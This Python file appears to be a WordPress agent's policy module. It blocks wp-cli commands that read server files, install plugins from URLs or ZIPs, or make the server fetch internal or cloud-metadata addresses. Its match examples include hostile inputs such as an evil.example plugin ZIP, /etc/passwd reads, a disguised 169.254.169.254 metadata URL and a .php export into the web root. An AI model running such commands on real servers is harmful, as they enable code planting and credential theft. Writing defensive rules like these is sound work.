"""Argument rules about where content comes from: post content read from files or standard input,
plugin and theme install sources, and media imported from URLs (only public web hosts).

Part of ARGUMENT_RULES (argument_rules.py); split out because each needs its own knowledge of
sources (paths, package URLs, host addresses) rather than of WordPress's stored values.
"""

from __future__ import annotations

import ipaddress
import re
import socket
from urllib.parse import urlsplit

from wp_agent.command_line.parsed_command import ParsedCommand
from wp_agent.policy.categories import PolicyCategory
from wp_agent.policy.command_grammar import synopsis_of
from wp_agent.policy.rule import DIGITS, ID_RANGE, SLUG, Verdict, argument_rule

B = PolicyCategory.BLOCKED
D = PolicyCategory.DESTRUCTIVE


_WEB_PORTS = frozenset({80, 443, 8080, 8443})


MEDIA_PRIVATE_HOST_RULE = "blocked.media_private_host"


@argument_rule(
    match=("post create /etc/passwd --post_title=x", "post update 5 -", "post create --edit"),
    not_match=("post create --post_title=x --post_content=y", "post update 5 7 --post_status=draft"),
    paths=("post create", "post update"),
)
def post_content_sources(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
    if cmd.has_flag("edit"):
        return Verdict(
            B,
            "blocked.interactive_editor",
            "エディタを起動するオプション（--edit）は使用できません",
            "--edit",
        )
    args = cmd.args_after(path)
    ids = (DIGITS, ID_RANGE)
    files = args if path == ("post", "create") else [a for a in args if not any(p.fits(a) for p in ids)]
    if files:
        return Verdict(
            B,
            "blocked.file_argument",
            "サーバー上のファイルや標準入力から本文を読み込む指定はできません。--post_content で本文を指定してください",
            files[0],
        )
    return None


@argument_rule(
    match=(
        "plugin install https://evil.example/x.zip",
        "theme install ./t.zip",
        "plugin install akismet --insecure",
        "plugin download https://evil.example/x.zip",
        "theme download twentytwelve --insecure",
    ),
    not_match=(
        "plugin install akismet",
        "theme install twentytwentythree --activate",
        "plugin download bbpress",
    ),
    paths=("plugin install", "theme install", "plugin download", "theme download"),
)
def install_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
    kind = "プラグイン" if path[0] == "plugin" else "テーマ"
    if cmd.has_flag("insecure"):
        return Verdict(
            B,
            "blocked.insecure_download",
            "TLS検証を無効にするオプション（--insecure）は使用できません",
            "--insecure",
        )
    for source in cmd.args_after(path):
        if not SLUG.fits(source):
            return Verdict(
                B,
                "blocked.install_source",
                f"{kind}は公式ディレクトリのスラッグでのみインストールできます（URLやZIPファイルは不可）: {source}",
                source,
            )
    return None


def _numeric_ipv4(host: str) -> ipaddress.IPv4Address | None:
    """Hosts such as 127.1, 0x7f.1 or 0177.0.0.1 that inet_aton (and so curl) read as IPv4."""
    if not re.fullmatch(r"[0-9a-fA-Fx.]+", host) or not any(c.isdigit() for c in host):
        return None
    try:
        return ipaddress.IPv4Address(socket.inet_aton(host))
    except OSError:
        return None


def is_public_host(host: str) -> bool:
    """A host the internet can reach (not loopback, private, link-local such as the cloud metadata
    address, nor a single-label or internal name), in every spelling curl accepts."""
    lowered = host.lower().rstrip(".")
    if lowered in {"localhost", "metadata.google.internal"} or lowered.endswith(
        (".localhost", ".internal", ".local")
    ):
        return False
    numeric = _numeric_ipv4(lowered)
    if numeric is not None:
        return numeric.is_global
    try:
        address = ipaddress.ip_address(lowered.strip("[]"))
    except ValueError:
        return "." in lowered  # a DNS name; single-label names usually point inside the network
    mapped = getattr(address, "ipv4_mapped", None)
    return bool((mapped or address).is_global)


@argument_rule(
    match=("media regenerate --yes", "media regenerate --only-missing"),
    not_match=("media regenerate 7 --yes", "media regenerate 7 8 --only-missing"),
    paths=("media regenerate",),
)
def every_image_regenerated(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
    if [a for a in cmd.args_after(path) if DIGITS.fits(a)]:
        return None
    return Verdict(
        B,
        "blocked.heavy_operation",
        "全画像の再生成は負荷が高いため実行できません。対象の画像IDを指定してください",
        "media regenerate",
    )


@argument_rule(
    match=(
        "media import /etc/passwd",
        "media import http://127.0.0.1/x.png",
        "media import 'http://\u200b169.254.169.254/x.png'",
        "media import https://example.com/x.png --destination-dir=/tmp",
    ),
    not_match=("media import https://example.com/x.png", "media import https://example.com/x.png --title=x"),
    paths=("media import",),
)
def media_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
    if cmd.option_values("destination-dir") or cmd.has_flag("destination-dir"):
        return Verdict(
            B,
            "blocked.media_destination",
            "保存先ディレクトリの指定（--destination-dir）はできません",
            "--destination-dir",
        )
    # The literal checks here answer early; SafeDownloader checks every resolved address and
    # redirect when the agent downloads the file (WordPress itself never fetches it).
    return _web_sources(cmd.args_after(path), MEDIA_PRIVATE_HOST_RULE, "取り込めません")


def _web_sources(sources: list[str] | tuple[str, ...], private_rule: str, verb: str) -> Verdict | None:
    """Every source a public web address (http(s), an ASCII host name, a web port), or the refusal."""
    refused: list[str] = []
    for source in sources:
        parts = urlsplit(source)
        if parts.scheme not in {"http", "https"} or not parts.hostname:
            return Verdict(
                B,
                "blocked.media_source",
                f"http(s) のURLからのみ{verb}（サーバー上のファイルは不可）: {source}",
                source,
            )
        if not parts.hostname.isascii():
            # IDNA drops invisible characters: http://<U+200B>169.254.169.254/ is the metadata host.
            return Verdict(
                B,
                "blocked.media_source",
                f"URLのホスト名は半角で指定してください（国際化ドメインは xn-- の形式）: {ascii(parts.hostname)[1:-1]}",
                source,
            )
        try:
            port = parts.port or (443 if parts.scheme == "https" else 80)
        except ValueError:
            port = -1
        if not is_public_host(parts.hostname) or port not in _WEB_PORTS:
            refused.append(f"{parts.hostname}:{port}")
    if not refused:
        return None
    return Verdict(
        B,
        private_rule,
        f"内部ネットワークのアドレスや特殊なポートからは{verb}: {', '.join(refused)}",
        ",".join(refused),  # every refused host:port (an explicit test setting may allow media's)
    )


# What the server itself fetches because of a command: the URL arguments and options by path. Approval
# does not make an inward fetch acceptable, so these are refused whatever the category.
_SERVER_FETCHES: dict[tuple[str, ...], tuple[str, ...]] = {
    ("media", "replace"): ("file",),
    ("embed", "fetch"): ("url",),
    ("embed", "provider", "match"): ("url",),
    ("font", "face", "install"): ("--src",),
}
SERVER_FETCH_PRIVATE_RULE = "blocked.server_fetch_private_host"


@argument_rule(
    match=(
        "media replace 5 /etc/passwd",
        "media replace 5 http://127.0.0.1/x.png",
        "embed fetch http://169.254.169.254/latest/meta-data/",
        "embed provider match http://10.1.2.3/",
        "font face install 42 --src=file:///etc/passwd",
    ),
    not_match=(
        "media replace 5 https://example.com/new.png",
        "embed fetch https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "font face install 42 --src=https://example.com/a.woff2",
    ),
    paths=_SERVER_FETCHES,
)
def server_fetches(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
    return _web_sources(
        server_fetched(cmd, path), SERVER_FETCH_PRIVATE_RULE, "サーバーに取得させることはできません"
    )


def server_fetched(cmd: ParsedCommand, path: tuple[str, ...]) -> list[str]:
    """The URLs the server itself fetches because of this command (the policy also resolves their host
    names when it decides: a public-looking name may point inside)."""
    args = cmd.args_after(path)
    synopsis = synopsis_of(path)
    sources: list[str] = []
    for name in _SERVER_FETCHES.get(path, ()):
        if name.startswith("--"):
            sources += cmd.option_values(name[2:])
        elif synopsis is not None:
            at = [a.name for a in synopsis.arguments].index(name)
            sources += args[at : at + 1]
    return sources


# Placeholders of option values that name a file or directory on the server (`--file=<file>`,
# `--target-path=<path>`, `--config-file=<path>`): writing or reading there is outside every command's
# declared effect, whatever the command (a block export written as a .php file in the web root is code).
_SERVER_FILE_PLACEHOLDERS = frozenset({"file", "path", "dir", "directory", "filename"})


@argument_rule(
    match=(
        "post block export 5 --file=/var/www/html/x.php",
        "post block import 5 --file=/etc/passwd",
        "plugin download bbpress --target-path=/var/www/html",
        "search-replace a b --export=/tmp/x.sql",
    ),
    not_match=("post block export 5 --format=json", "plugin download bbpress", "plugin path akismet --dir"),
)
def server_files(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
    synopsis = synopsis_of(path)
    if synopsis is None:
        return None
    for option in cmd.options:
        declared = synopsis.options.get(option.name)
        if declared is not None and declared.placeholder in _SERVER_FILE_PLACEHOLDERS:
            return Verdict(
                B,
                "blocked.server_file_option",
                f"サーバー上のファイルやディレクトリを指定するオプション（--{option.name}）は使用できません。"
                "結果は画面への出力で受け取ってください",
                f"--{option.name}",
            )
    return None
